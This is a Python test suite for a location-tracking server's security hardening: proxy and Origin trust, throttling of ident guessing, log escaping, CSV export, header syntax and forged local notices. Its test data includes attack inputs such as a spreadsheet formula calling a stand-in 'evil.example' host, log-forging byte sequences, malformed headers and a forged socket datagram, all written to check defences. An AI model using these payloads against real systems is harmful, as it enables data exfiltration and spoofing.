"""Hardening (issue 10, items 4 and 7) against the real binary: whose
X-Forwarded-* count (trusted_proxies), the one origin rule for POSTs and
/ws/last (trusted_origins), OwnTracks Frontend behind its own docker nginx,
the receiver's guard against ident guessing, the ident oracle of
POST /api/devices, idents with control characters, log escaping and
rate-limiting, CSV formula cells, Host / header-syntax 400s, the sender
check of live notices, and /api/0/locations?limit=N reading backwards."""
import base64
import hashlib
import json
import os
import socket
import sqlite3
import struct
import time
import unittest
import urllib.parse

from harness import Mintrac, ServerCase, basic, sqlite_only
from test_owntracks_api import WS

A = ("alice", "alice-secret-1")
B = ("bob", "bob-secret-22")
FIX_S = 1714558530   # 2024-05-01T10:15:30Z


def web(m, method, path, body=None, headers=None):
    h = dict(headers or {})
    if isinstance(body, (dict, list)):
        body = json.dumps(body)
        h.setdefault("Content-Type", "application/json")
    if body is None and method in ("POST", "PATCH", "DELETE"):
        body = b""
    st, hdrs, data = m.request(method, path, body=body, headers=h, port=m.wport)
    if "json" in hdrs.get("content-type", "") and data:
        return st, hdrs, json.loads(data.decode("utf-8"))
    return st, hdrs, data


def wait_log(m, text, timeout=5):
    deadline = time.monotonic() + timeout
    while text not in m.log():
        if time.monotonic() > deadline:
            raise AssertionError("%r not in the log:\n%s" % (text, m.log()[-3000:]))
        time.sleep(0.05)


def first_status(raw: bytes) -> int:
    return int(raw.split(b"\r\n", 1)[0].split()[1]) if raw.startswith(b"HTTP/") else 0


# ---- item 4: proxies and origins ---------------------------------------------

class ProxiesNotTrustedByDefault(ServerCase):
    users = (A, B)

    def test_forwarded_for_from_loopback_is_not_believed(self):
        st, _, _ = web(self.m, "POST", "/api/login", {"user": "bob", "password": "wrong-one-1"},
                       {"X-Forwarded-For": "198.51.100.77"})
        self.assertEqual(st, 401)
        wait_log(self.m, "refused sign-in as bob from 127.0.0.1")
        self.assertNotIn("198.51.100.77", self.m.log())

    def test_forwarded_host_from_an_unlisted_peer_does_not_vouch(self):
        # Origin names what X-Forwarded-Host claims, but nobody listed the
        # peer as a proxy: the Origin is another site's.
        st, _, doc = web(self.m, "POST", "/api/devices", {"name": "via xfh"},
                         {"Authorization": basic(*A), "Host": "upstream:1",
                          "Origin": "https://pub.example", "X-Forwarded-Host": "pub.example"})
        self.assertEqual(st, 403, doc)


class ProxiesTrusted(ServerCase):
    users = (A, B)
    conf = {"trusted_proxies": "10.0.0.0/8 127.0.0.1"}

    def test_rightmost_untrusted_forwarded_address(self):
        st, _, _ = web(self.m, "POST", "/api/login", {"user": "bob", "password": "wrong-two-2"},
                       {"X-Forwarded-For": "192.0.2.66, 198.51.100.78, 10.1.2.3"})
        self.assertEqual(st, 401)
        wait_log(self.m, "refused sign-in as bob from 198.51.100.78")

    def test_forwarded_host_from_a_listed_proxy(self):
        st, _, doc = web(self.m, "POST", "/api/devices", {"name": "via xfh"},
                         {"Authorization": basic(*A), "Host": "upstream:1",
                          "Origin": "https://pub.example", "X-Forwarded-Host": "pub.example"})
        self.assertEqual(st, 201, doc)


class Origins(ServerCase):
    users = (A,)
    conf = {"trusted_origins": "https://otf.example http://maps.example:8080"}

    def test_ws_same_site_is_not_same_origin(self):
        auth = {"Authorization": basic(*A)}
        st, _, ws, body = WS.handshake(self.m.wport, dict(auth, **{
            "Origin": "https://sibling.example.org", "Sec-Fetch-Site": "same-site"}))
        self.assertEqual(st, 403, body)
        self.assertIsNone(ws)
        wait_log(self.m, "Origin https://sibling.example.org is neither this site nor in "
                         "trusted_origins")
        # The page's own origin and a listed one pass.
        for h in ({"Origin": "http://127.0.0.1:%d" % self.m.wport},
                  {"Origin": "https://otf.example", "Sec-Fetch-Site": "cross-site"},
                  {"Origin": "http://maps.example:8080"},
                  {"Origin": "http://x.example", "Sec-Fetch-Site": "same-origin"}):
            with self.subTest(h=h):
                st, _, ws, body = WS.handshake(self.m.wport, dict(auth, **h))
                self.assertEqual(st, 101, body)
                ws.close()

    def test_every_post_takes_the_same_rule(self):
        auth = {"Authorization": basic(*A)}
        for path, body in (("/api/devices", {"name": "o1"}), ("/api/0/last", None),
                           ("/api/login", {"user": "alice", "password": A[1]})):
            with self.subTest(path=path):
                st, _, doc = web(self.m, "POST", path, body, dict(auth, **{
                    "Origin": "https://sibling.example.org", "Sec-Fetch-Site": "same-site"}))
                self.assertEqual(st, 403, doc)
                st, _, doc = web(self.m, "POST", path, body, dict(auth, **{
                    "Origin": "https://otf.example", "Sec-Fetch-Site": "cross-site"}))
                self.assertIn(st, (200, 201), doc)


# What OwnTracks Frontend's docker image puts between the browser and us,
# read from owntracks/frontend@773c217 docker/nginx.tmpl and docker/Dockerfile:
#   upstream otrecorder { server ${SERVER_HOST}:${SERVER_PORT}; }
#   location /api/ { proxy_pass http://otrecorder/api/; }
#   location /ws/  { proxy_pass http://otrecorder/ws/; proxy_http_version 1.1;
#                    proxy_set_header Upgrade $http_upgrade;
#                    proxy_set_header Connection upgrade; }
# and nginx's proxy defaults (ngx_http_proxy_module: proxy_http_version
# 1.0, "proxy_set_header Host $proxy_host; proxy_set_header Connection
# close;"). So /api/ arrives as HTTP/1.0 with Host: otrecorder (the upstream
# block's name) and Connection: close; /ws/ as HTTP/1.1 with Host: otrecorder;
# no X-Forwarded-* at all; the browser's Origin, Authorization and any
# Sec-Fetch-* pass through unchanged. The app (src/api.js, src/config.js)
# GETs /api/0/version, /api/0/list, /api/0/list?user=U, /api/0/last,
# /api/0/locations?from&to&user&device&format=json against its own origin
# and opens ws(s)://ITS-ORIGIN/ws/last, sending "LAST". Nothing is POSTed.
OTF_ORIGIN = "https://otf.example"
OTF_HOST = "otrecorder"


class OwnTracksFrontendBehindItsNginx(ServerCase):
    users = (A,)
    conf = {"trusted_origins": OTF_ORIGIN}

    @classmethod
    def prepare(cls):
        d = cls.m.add_device("alice", "phone")
        cls.token = d["token"]

    def api10(self, path):
        """One request exactly as nginx forwards /api/: HTTP/1.0, Host
        rewritten, Connection: close, the browser's cached Basic."""
        req = ("GET %s HTTP/1.0\r\nHost: %s\r\nConnection: close\r\n"
               "Authorization: %s\r\nAccept: */*\r\n\r\n" % (path, OTF_HOST, basic(*A)))
        raw = self.m.raw(req.encode(), port=self.m.wport)
        head, _, body = raw.partition(b"\r\n\r\n")
        self.assertEqual(first_status(raw), 200, raw[:300])
        self.assertNotIn(b"chunked", head.lower(), "no chunked replies to HTTP/1.0")
        return json.loads(body.decode())

    def test_the_frontend_works_with_trusted_origins_alone(self):
        st, _, _ = self.m.request("GET", "/osmand?token=%s&lat=52.5&lon=13.4&timestamp=%d"
                                  % (self.token, FIX_S * 1000))
        self.assertEqual(st, 200)
        self.assertIn("version", self.api10("/api/0/version"))
        self.assertEqual(self.api10("/api/0/list")["results"], ["alice"])
        self.assertEqual(self.api10("/api/0/list?user=alice")["results"], ["phone"])
        last = self.api10("/api/0/last")
        self.assertEqual([x["device"] for x in last], ["phone"])
        locs = self.api10("/api/0/locations?from=2024-05-01T00%3A00%3A00&to=2024-05-01T23%3A59%3A59"
                          "&user=alice&device=phone&format=json")
        self.assertEqual(locs["count"], 1)
        # The WebSocket, from a browser that sends no Fetch Metadata (Safari
        # before 16.4) and from one that does.
        for extra in ({}, {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "websocket",
                           "Sec-Fetch-Dest": "websocket"}):
            with self.subTest(extra=extra):
                st, _, ws, body = WS.handshake(self.m.wport, dict({
                    "Host": OTF_HOST, "Connection": "upgrade", "Origin": OTF_ORIGIN,
                    "Authorization": basic(*A)}, **extra))
                self.assertEqual(st, 101, body)
                ws.send(0x1, "LAST")
                frame = ws.text(3.0)
                self.assertEqual((frame["_type"], frame["device"]), ("location", "phone"))
                ws.close()

    def test_without_the_setting_the_socket_is_refused(self):
        m = Mintrac()
        try:
            m.add_user(*A)
            m.run()
            st, _, ws, _ = WS.handshake(m.wport, {
                "Host": OTF_HOST, "Connection": "upgrade", "Origin": OTF_ORIGIN,
                "Authorization": basic(*A)})
            self.assertEqual(st, 403)
            self.assertEqual(m.stop_checked(), "")
        finally:
            m.close()


# ---- item 7: receiver credentials --------------------------------------------

GUARD_BURST = 20      # src/receiver/guard.h
GUARD_REFILL = 3.0


class ReceiverGuard(ServerCase):
    users = (A, B)
    # The test client plays a proxy so that each test is its own client.
    conf = {"trusted_proxies": "127.0.0.1"}

    @classmethod
    def prepare(cls):
        cls.m.add_device("alice", "traccar", ident="482117")
        cls.token = cls.m.add_device("alice", "osmand")["token"]

    def traccar(self, ident, addr, n=0):
        return self.m.request("POST", "/?id=%s&lat=52.5&lon=13.4&timestamp=%d"
                              % (ident, FIX_S + n), body=b"",
                              headers={"X-Forwarded-For": addr})

    def test_guessing_idents_is_throttled_per_address(self):
        addr = "203.0.113.10"
        t0 = time.monotonic()
        statuses = [self.traccar("%06d" % (100000 + i), addr)[0] for i in range(GUARD_BURST + 5)]
        self.assertEqual(statuses[:GUARD_BURST], [401] * GUARD_BURST)
        self.assertEqual(set(statuses[GUARD_BURST:]), {429}, statuses)
        st, hdrs, _ = self.traccar("%06d" % 999999, addr)
        self.assertEqual(st, 429)
        self.assertGreaterEqual(int(hdrs["retry-after"]), 1)
        # Now even the right ident waits; not so a token, nor another client.
        self.assertEqual(self.traccar("482117", addr, 1)[0], 429)
        st, _, _ = self.m.request("GET", "/osmand?token=%s&lat=1&lon=2&timestamp=%d"
                                  % (self.token, (FIX_S + 2) * 1000),
                                  headers={"X-Forwarded-For": addr})
        self.assertEqual(st, 200)
        self.assertEqual(self.traccar("482117", "203.0.113.11", 3)[0], 200)
        # The phone keeps retrying; once the bucket refills it delivers.
        time.sleep(max(0.0, GUARD_REFILL + 0.3 - (time.monotonic() - t0)))
        self.assertEqual(self.traccar("482117", addr, 4)[0], 200)

    def test_a_misconfigured_phone_delivers_once_fixed(self):
        # A phone that queued points under a wrong ident and retried them
        # (but stayed under the burst) delivers at once with the right one;
        # failures before the fix do not linger.
        addr = "203.0.113.20"
        for i in range(GUARD_BURST - 1):
            self.assertEqual(self.traccar("111111", addr)[0], 401, i)
        for n in range(20, 25):
            self.assertEqual(self.traccar("482117", addr, n)[0], 200)


class IdentOracle(ServerCase):
    users = (A, B)
    conf = {"trusted_proxies": "127.0.0.1"}

    def test_other_users_idents_cannot_be_probed(self):
        self.m.add_device("alice", "car", ident="353977105551234")
        bob = {"Authorization": basic(*B), "X-Forwarded-For": "198.51.100.5"}
        own = web(self.m, "POST", "/api/devices", {"name": "b1", "ident": "777"}, bob)
        self.assertEqual(own[0], 201, own)
        st, _, mine = web(self.m, "POST", "/api/devices", {"name": "b2", "ident": "777"}, bob)
        self.assertEqual(st, 409)
        st, _, theirs = web(self.m, "POST", "/api/devices",
                            {"name": "b3", "ident": "353977105551234"}, bob)
        self.assertEqual(st, 409)
        self.assertEqual(mine, theirs, "the answer names whose ident it is")
        # Each probe of another user's ident costs a token like a wrong
        # password (a burst of 10 per user, webapp/throttle.h), then 429
        # before anything is looked up; own and free idents cost nothing.
        statuses = [web(self.m, "POST", "/api/devices",
                        {"name": "p%d" % i, "ident": "3539771055512%02d" % i}, bob)[0]
                    for i in range(4)]
        self.assertEqual(statuses, [201, 201, 201, 201])
        statuses = [web(self.m, "POST", "/api/devices",
                        {"name": "q%d" % i, "ident": "353977105551234"}, bob)[0]
                    for i in range(10)]
        self.assertEqual(statuses, [409] * 9 + [429], statuses)
        st, hdrs, doc = web(self.m, "POST", "/api/devices", {"name": "r", "ident": "424242"}, bob)
        self.assertEqual(st, 429, doc)
        self.assertGreaterEqual(int(hdrs["retry-after"]), 1)

    def test_idents_refuse_control_characters(self):
        for ident in ("12\n34", "ab\x1bc", "tab\there", "del\x7f", "c1\u0085"):
            with self.subTest(ident=ident):
                cp = self.m.cli("device", "add", "alice", "ctl %r" % ident, "--ident", ident,
                                check=False)
                self.assertNotEqual(cp.returncode, 0, cp.stdout)
                self.assertIn("control characters", cp.stderr)
                st, _, doc = web(self.m, "POST", "/api/devices",
                                 {"name": "ctl", "ident": ident}, {"Authorization": basic(*A)})
                self.assertEqual(st, 400, doc)


# ---- item 7: logs --------------------------------------------------------------

class Logs(ServerCase):
    users = (A,)

    def test_network_bytes_are_escaped_in_log_lines(self):
        raw = self.m.raw(b"GET /\xff\xfe\xc2\x85FORGED\\x HTTP/1.1\r\nHost: x\r\n"
                         b"Connection: close\r\n\r\n")
        self.assertEqual(first_status(raw), 404, raw[:200])
        wait_log(self.m, "rejected GET /\\xff\\xfe\\xc2\\x85FORGED\\\\x from")
        with open(os.path.join(self.m.datadir, "run.log"), "rb") as f:
            log = f.read()
        self.assertNotIn(b"\xff", log)
        self.assertNotIn(b"\xc2\x85", log)

    def test_repeated_rejections_are_rate_limited(self):
        burst = b"".join(b"GET /no-such-path-%d HTTP/1.1\r\nHost: x\r\n\r\n" % i
                         for i in range(300))
        t0 = time.monotonic()
        raw = self.m.raw(burst + b"GET /end HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                         timeout=15)
        took = time.monotonic() - t0
        self.assertEqual(raw.count(b"HTTP/1.1 404"), 301)
        time.sleep(1.1)
        self.m.request("GET", "/no-such-path-after")
        wait_log(self.m, "suppressed ")
        lines = [l for l in self.m.log().splitlines() if "/no-such-path-" in l]
        self.assertLessEqual(len(lines), 20 * (int(took) + 3), "rejection lines not limited")


# ---- item 7: CSV ------------------------------------------------------------------

class CsvFormulas(ServerCase):
    users = (A,)

    def test_formula_cells_are_neutralised_in_every_export(self):
        names = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)"]
        for i, name in enumerate(names):
            tok = self.m.add_device("alice", name)["token"]
            st, _, _ = self.m.request("GET", "/osmand?token=%s&lat=-33.5&lon=-70.25&timestamp=%d"
                                      % (tok, (FIX_S + i) * 1000))
            self.assertEqual(st, 200)
        out = self.m.cli("export", "alice", "--format", "csv").stdout
        rows = out.splitlines()[1:]
        self.assertEqual(len(rows), len(names), out)
        for name in names:
            cell = '"\'' + name.replace('"', '""') + '"'
            self.assertTrue(any(r.startswith(cell + ",") for r in rows), (cell, out))
        # Numbers stay numbers.
        self.assertIn(",-33.5,-70.25,", out)
        # The single-device export from the API too (its cells are the
        # attributes object; none starts with a formula character).
        st, _, body = web(self.m, "GET", "/api/points?" + urllib.parse.urlencode(
            {"device": names[0], "from": FIX_S - 10, "to": FIX_S + 10, "format": "csv"}),
            headers={"Authorization": basic(*A)})
        self.assertEqual(st, 200)
        for line in body.decode().splitlines()[1:]:
            self.assertFalse(any(cell[:1] and cell[0] in "=+@" for cell in line.split(",")), line)


# ---- item 7: wire ------------------------------------------------------------------

class WireSyntax(ServerCase):
    users = (A,)

    def test_host_and_header_syntax(self):
        bad = [
            b"GET /osmand HTTP/1.1\r\nConnection: close\r\n\r\n",                    # no Host
            b"GET /osmand HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
            b"GET /osmand HTTP/1.1\r\nHost : a\r\nConnection: close\r\n\r\n",
            b"GET /osmand HTTP/1.1\r\nHost: a\r\nX-Folded: one\r\n two\r\nConnection: close\r\n\r\n",
        ]
        for port in (self.m.rport, self.m.wport):
            for req in bad:
                with self.subTest(port=port, req=req):
                    raw = self.m.raw(req, port=port)
                    self.assertEqual(first_status(raw), 400, raw[:300])
            # HTTP/1.0 needs no Host: the request itself is answered.
            raw = self.m.raw(b"GET /osmand HTTP/1.0\r\n\r\n", port=port)
            self.assertIn(first_status(raw), (401, 404), raw[:300])


# ---- item 7: live notices -------------------------------------------------------

def live_socket_name(db_path):
    """src/net/live.c live_addr(): abstract "mintrac-live-" + 24 hex digits
    of SHA-256 of the database's real path."""
    h = hashlib.sha256(os.path.realpath(db_path).encode()).hexdigest()[:24]
    return b"\0mintrac-live-" + h.encode()


def live_datagram(device_id, time_ms):
    """struct live_msg: magic "MTL1" (0x4d544c31), n, then {device_id, time_ms}."""
    return struct.pack("=IIqq", 0x4d544c31, 1, device_id, time_ms)


@sqlite_only("the live socket is named after mintrac.db's path; the device id is read from the file")
class LiveNoticeSender(ServerCase):
    users = (A,)

    @classmethod
    def prepare(cls):
        cls.token = cls.m.add_device("alice", "phone")["token"]

    def send_as(self, uid, data):
        name = live_socket_name(os.path.join(self.m.datadir, "mintrac.db"))
        pid = os.fork()
        if pid == 0:
            try:
                if uid is not None:
                    os.setgid(uid)
                    os.setuid(uid)
                s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                s.sendto(data, name)
                os._exit(0)
            except BaseException:
                os._exit(1)
        _, status = os.waitpid(pid, 0)
        self.assertEqual(status, 0, "the sender could not send")

    def test_notices_from_another_user_are_ignored(self):
        if os.geteuid() != 0:
            self.skipTest("needs root to send as another user")
        st, _, _ = self.m.request("GET", "/osmand?token=%s&lat=1&lon=2&timestamp=%d"
                                  % (self.token, FIX_S * 1000))
        self.assertEqual(st, 200)
        db = sqlite3.connect("file:%s?mode=ro" % os.path.join(self.m.datadir, "mintrac.db"),
                             uri=True)
        (dev_id,) = db.execute("SELECT id FROM devices WHERE name = 'phone'").fetchone()
        db.close()
        st, _, ws, body = WS.handshake(self.m.wport, {"Authorization": basic(*A)})
        self.assertEqual(st, 101, body)
        self.addCleanup(ws.close)
        time.sleep(0.2)
        # Another local user replays a stored fix as if it were new.
        self.send_as(65534, live_datagram(dev_id, FIX_S * 1000))
        self.assertIsNone(ws.text(1.5), "a forged notice was pushed")
        wait_log(self.m, "ignored a notice from another user")
        # The same datagram from our own user is heard (the name is right).
        self.send_as(None, live_datagram(dev_id, FIX_S * 1000))
        frame = ws.text(3.0)
        self.assertIsNotNone(frame)
        self.assertEqual(frame["device"], "phone")


# ---- item 7: limit=N ------------------------------------------------------------------

class LocationsLimit(ServerCase):
    users = (A,)
    N = 150000

    @classmethod
    def prepare(cls):
        path = os.path.join(cls.m.root, "many.csv")
        with open(path, "w") as f:
            f.write("time,lat,lon\n")
            for i in range(cls.N):
                t = 1577836800 + i * 60   # one a minute from 2020-01-01
                f.write("%s,%.5f,13.4\n" % (time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t)),
                                            52 + i * 1e-5))
        cls.m.add_device("alice", "many")
        cls.m.cli("import", "alice", "many", path)

    def fetch(self, frm):
        q = urllib.parse.urlencode({"user": "alice", "device": "many", "from": frm,
                                    "to": "2030-01-01", "limit": 3})
        t0 = time.monotonic()
        st, doc = self.m.api("/api/0/locations?" + q, *A)
        took = time.monotonic() - t0
        self.assertEqual(st, 200)
        return doc, took

    def test_limit_reads_only_the_last_n(self):
        last_t = 1577836800 + (self.N - 1) * 60
        near = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(last_t - 600))
        doc, _ = self.fetch("2000-01-01")
        self.assertEqual([x["tst"] for x in doc["data"]], [last_t - 120, last_t - 60, last_t])
        # The whole range (150,000 fixes) costs about what ten minutes of it
        # cost: the range is not walked (walking it twice took 69 ms in a
        # release build, against under 1 ms). Best of three each.
        whole = min(self.fetch("2000-01-01")[1] for _ in range(3))
        small = min(self.fetch(near)[1] for _ in range(3))
        print("limit=3: whole range %.4f s, ten minutes %.4f s" % (whole, small))
        self.assertLess(whole, small * 3 + 0.015, "whole %.3f s, ten minutes %.3f s" % (whole, small))
